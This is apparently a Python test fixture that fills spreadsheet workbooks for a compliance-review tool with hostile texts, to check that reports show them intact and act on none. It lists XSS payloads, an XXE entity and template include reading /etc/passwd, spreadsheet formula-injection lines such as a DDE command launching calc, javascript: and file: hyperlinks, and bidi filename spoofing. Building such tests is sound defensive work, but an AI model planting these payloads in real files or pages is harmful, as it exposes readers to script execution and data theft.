"""Texts that a workbook may hold to do harm in a report, or that break it by themselves, and workbooks full of them.

A report must show each of them whole, as the text that it is, and do nothing that it says.
"""

from __future__ import annotations

import importlib.util
import unicodedata
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from itertools import count
from pathlib import Path
from types import ModuleType
from typing import Any

import openpyxl

from gapcheck.assessment.queue import queue
from gapcheck.disclosure.freetext import tells_a_number
from gapcheck.rulebook import Rulebook
from gapcheck.workbook import fill_template, read_workbook
from gapcheck.workbook.reviewing.columns import COLUMNS, QUEUE, VOICE_COLUMNS, VOICES
from gapcheck.workbook.reviewing.drawing import review_bytes

ROOT = Path(__file__).parents[2]
WORKBOOK = "khm-2022 <b>&'{{7}}.xlsx"  # a file may be called so
REVIEW = "review <i>&'{{7}}.xlsx"
FIELDS = ("document", "link", "page", "comment", "responsible_body")
KEYED = "inspections_by_sector"  # the table whose keys are hostile
REMARKS = ("un_priority_remarks", "resourcing_gap_remarks")  # the questions answered in words
_MARKS = "\u0335\u0327\u031b" * 20  # above, below and through one letter
EVIL = "javascript:alert(document.domain)"


@dataclass(frozen=True)
class Hostile:
    """A text as it is written into a cell, and as the reader gives it: without what nobody typed or sees.

    ``read`` stands in the JSON result whole. ``shown`` is the same on one line, as reports for people may show it.
    """

    name: str
    written: str
    read: str
    shown: str

    @property
    def withheld(self) -> bool:
        """Whether a report to be passed on leaves it out of comments, reasons, voices and answers in words."""
        return tells_a_number(self.read)

    def whole_in(self, text: str) -> bool:
        """Return whether a text that people see holds all of it, however lines were broken."""
        return squeezed(self.shown) in squeezed(text)


def squeezed(text: str) -> str:
    """Return text without white space and without marks of no width: what is left however lines were broken."""
    return "".join(mark for mark in text if not mark.isspace() and unicodedata.category(mark) != "Cf")


def _text(name: str, written: str, read: str | None = None, shown: str | None = None) -> Hostile:
    read = written if read is None else read
    return Hostile(name, written, read, " ".join(read.split()) if shown is None else shown)


TEXTS = (
    # markup
    _text("script", '<script>alert("script")</script>'),
    _text("script_with_number", "<script>alert(1)</script>"),
    _text("image", '"><img src=x onerror=alert(document.domain)>'),
    _text("drawing", "'><svg/onload=alert(document.domain)>"),
    _text("attribute", "' onmouseover='alert(document.domain)' x=\"y"),
    _text("style", "</style><style>*{display:none}</style>"),
    _text("closing", "</title></textarea></td></table></script></svg>out"),
    _text("entities", "&lt;b&gt;not bold&lt;/b&gt; &amp;amp; &quot; &nbsp;end"),
    _text("numeric_entities", "&#60;b&#62; &#x202e;"),
    _text("cdata", "<![CDATA[ in ]]> out <!-- in --> out"),
    _text("entity", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;"),
    # templates
    _text("expression", "{{ config }} ${ config } #{ config } <%= config %>"),
    _text("expression_with_numbers", "{{7*7}} ${7*7}"),
    _text("statement", "{% include '/etc/passwd' %} {# remark #}"),
    # addresses
    _text("script_link", EVIL),
    _text("hidden_script_link", "JaVa\tScRiPt:alert(document.domain)"),
    _text("data_link", "data:text/html,<script>alert(document.domain)</script>"),
    _text("file_link", "file:///etc/passwd"),
    _text("network_link", "\\\\elsewhere.invalid\\share"),
    _text("bare_link", "//elsewhere.invalid/picture.png"),
    _text("quoting_link", "https://elsewhere.invalid/?q=\"onmouseover='alert()' x=&amp;y=<b>"),
    _text("disguised_link", "https://example.org@elsewhere.invalid/"),
    # formulas
    _text("formula", '=HYPERLINK("http://elsewhere.invalid/"&A1,"click")'),
    _text("command", "=cmd|'/C calc'!A"),
    _text("plus", "+1"),
    _text("minus", "-2+3"),
    _text("at", "@SUM(A:A)"),
    _text("tab_led", "\t=TODAY()", "=TODAY()"),
    _text("wide", "＝NOW()"),
    _text("zero_width_led", "\u200b=RAND()", "=RAND()"),
    _text("apostrophe", "'=PI()"),
    _text("looks_like_a_day", "3-4"),
    _text("separators", 'a,"b";c\t\'d\'|e'),
    # order and width
    _text("overridden", "report\u202efdp.exe", "reportfdp.exe"),
    _text("isolated", "\u2067right\u2069 \u200eleft\u200f", "right left"),
    _text("zero_width", "Phnom\u200bPenh\u200cand\u200dKep\ufeff!", shown="Phnom\u200bPenh\u200cand\u200dKep!"),
    _text("soft_hyphen", "co\u00adoperation", shown="cooperation"),
    _text("private", "private\ue000use", shown="privateuse"),
    _text("emoji", "family 👩\u200d👧 🇰🇭 ✊🏿"),
    _text("khmer", "ជនរងគ្រោះនៃអំពើជួញដូរមនុស្ស"),
    _text("arabic", "مكافحة الاتجار بالبشر (UN)"),
    _text("combining", f"e\u0301crit Z{_MARKS}go", f"écrit {unicodedata.normalize('NFC', f'Z{_MARKS}')}go"),
    _text("long", "Donaudampfschiff" * 313),  # 5,008 letters
    _text("long_khmer", "ជួញដូរ" * 200),
    # markdown
    _text("table_row", "| cell | cell |\n|---|---|\n| x | y |"),
    _text("markdown_link", "[click](javascript:alert(document.domain)) <https://elsewhere.invalid/>"),
    _text("markdown_picture", "![picture](https://elsewhere.invalid/picture.png)"),
    _text("markdown_reference", "[label]: https://elsewhere.invalid/ 'title'"),
    _text("heading", "# heading\n## lower\nunderlined\n==="),
    _text("fence", "```\ncode\n```\n`code` ~~~"),
    _text("emphasis", "*starred* __lined__ ~~struck~~ \\*escaped\\*"),
    _text("list", "- item\n* item\n> quoted\n---"),
    # controls and line breaks
    _text("lines", "top\r\nmiddle\rlower\u2028bottom", "top\nmiddle\nlower\nbottom"),
    _text("controls", "bell_x0007_ red_x001B_[31m, c\x9b and del\x7f", "bell red[31m, c and del"),
    _text("escaped_by_excel", "_x003C_b_x003E_ _xD800_"),
    _text("backslashes", r"\u003cscript\u003e \x3c \n \0"),
    _text("spreadsheet_words", "NULL; NaN; #note"),
)  # fmt: skip


@dataclass(frozen=True)
class Written:
    """Workbooks full of hostile texts, on disk: an officer's, and the review that an auditor made of it."""

    workbook: Path
    review: Path


def write(folder: Path, rulebook: Rulebook) -> Written:
    """Fill in Cambodia's questions of 2022 with hostile texts wherever words are free; the workbook can be assessed.

    Every text stands in each of ``FIELDS`` of some answer, in a key of the table ``KEYED``, in the answers in words
    (those with numbers in the second of ``REMARKS``), in submitted_by, transcribed_by and submission; in the review,
    in a reason, the name of a reviewer, and each field of a voice. Some cells lead to harmful addresses.
    """
    written = Written(folder / WORKBOOK, folder / REVIEW)
    header, answers, tables = _transcribed()
    _cite(answers)
    for name, numbered in zip(REMARKS, (False, True), strict=True):
        joined = "\n".join(text.written for text in TEXTS if text.withheld is numbered)
        answers[name] = {**answers.get(name, {}), "answer": joined}
    together = "\n".join(text.written for text in TEXTS)
    header |= {"submitted_by": together, "transcribed_by": together, "submission": f"No. 245/22 {together}"}
    columns = [name for name, column in rulebook.indicators[KEYED].columns.items() if not column.key]
    key = rulebook.indicators[KEYED].key_column
    tables[KEYED] = [{key: text.written, **dict.fromkeys(columns, 50)} for text in TEXTS]
    answers[KEYED].pop("answer", None)
    fill_template(rulebook, header, answers, tables, written.workbook)
    _link(written.workbook)
    _review(written, rulebook)
    return written


def lost(texts: Iterable[Hostile], held: Iterable[str]) -> list[str]:
    """Return the names of the texts that are whole in none of the strings."""
    strings = list(held)
    return [text.name for text in texts if not any(text.read in string for string in strings)]


def strings(data: Any) -> Iterable[str]:
    """Yield every text in data as JSON holds it, names of its keys apart."""
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for value in data.values():
            yield from strings(value)
    elif isinstance(data, list):
        for value in data:
            yield from strings(value)


def disturbing(text: str) -> list[str]:
    """Return the marks in a text that move a cursor or turn its order round, by their code."""
    ordering = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029"
    marks = {mark for mark in text if (unicodedata.category(mark) in ("Cc", "Cs") and mark != "\n") or mark in ordering}
    return sorted(f"U+{ord(mark):04X}" for mark in marks)


def _cite(answers: dict[str, dict[str, Any]]) -> None:
    """Give answers evidence, so that each text comes into each field."""
    cited = [row for row in answers.values() if row]
    if len(cited) < len(TEXTS):
        raise ValueError(f"{len(cited)} answers cannot hold {len(TEXTS)} texts: add answers, or give one several")
    for number, row in enumerate(cited):
        for shift, field in enumerate(FIELDS):
            row[field] = TEXTS[(number + shift) % len(TEXTS)].written
        row["document_date"] = "2020-01-02"


def _transcribed() -> tuple[dict[str, Any], dict[str, dict[str, Any]], dict[str, Any]]:
    """Return what Cambodia's report of 2022 answers, as it is typed into the template."""
    build = _module("inputs_build", ROOT / "tests" / "inputs" / "build.py")
    data = build.transcribed(ROOT / "inputs" / "sources" / "khm-2022.yaml")
    answers = {name: dict(row) for name, row in data["answers"].items()}
    tables = {name: [dict(row) for row in table["rows"]] for name, table in data["tables"].items()}
    return dict(data["header"]), {**answers, KEYED: answers.get(KEYED, {"comment": "x"})}, tables


def _link(workbook: Path) -> None:
    """Make some cells lead to addresses that their words do not tell."""
    book = openpyxl.load_workbook(workbook)
    targets = [EVIL, "data:text/html,<script>alert()</script>", 'https://elsewhere.invalid/"><b>', "file:///etc/passwd"]
    for sheet in (book["Prosecution"], book["Protection"]):
        filled = [row[0] for row in sheet.iter_rows(min_col=6, max_col=6) if row[0].row > 1 and row[0].value]
        for cell, target in zip(filled[1:], targets, strict=False):
            cell.hyperlink = target
    book.save(workbook)


def _review(written: Written, rulebook: Rulebook) -> None:
    submission = read_workbook(written.workbook, rulebook)
    written.review.write_bytes(review_bytes(submission, rulebook, queue(submission, rulebook)))
    book = openpyxl.load_workbook(written.review)
    page, voices = book[QUEUE], book[VOICES]
    columns = {cell.value: cell.column for cell in page[1]}
    put = _typist(page, lambda key: columns[COLUMNS[key][0]])
    answered = [
        row
        for row in range(2, page.max_row + 1)
        if (answer := submission.answers.get(page.cell(row, 2).value)) is not None and answer.value is not None
    ]
    for number, text in enumerate(TEXTS):
        put(answered[number], "decision", "rejected" if number % 3 else "accepted")
        put(answered[number], "reason", text.written)
        put(answered[number], "reviewer", f"R {text.written}")  # a name has a letter
        put(answered[number], "date", "2023-02-01")
    names = [page.cell(row, 2).value for row in answered]
    order = list(VOICE_COLUMNS)
    say = _typist(voices, lambda key: order.index(key) + 1)
    for number, name, text in zip(count(4), names, TEXTS, strict=False):
        say(number, "id", name)
        for key in ("source", "says", "document", "link", "recorded_by"):
            say(number, key, f"V {text.written}" if key == "recorded_by" else text.written)
        say(number, "recorded_on", "2023-02-01")
    book.save(written.review)


def _typist(sheet: Any, column: Callable[[str], int]) -> Callable[[int, str, str], None]:
    def put(row: int, key: str, text: str) -> None:
        cell = sheet.cell(row, column(key))
        cell.value, cell.data_type = text, "s"  # typed as text, also where it begins like a formula

    return put


def _module(name: str, path: Path) -> ModuleType:
    spec = importlib.util.spec_from_file_location(name, path)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module
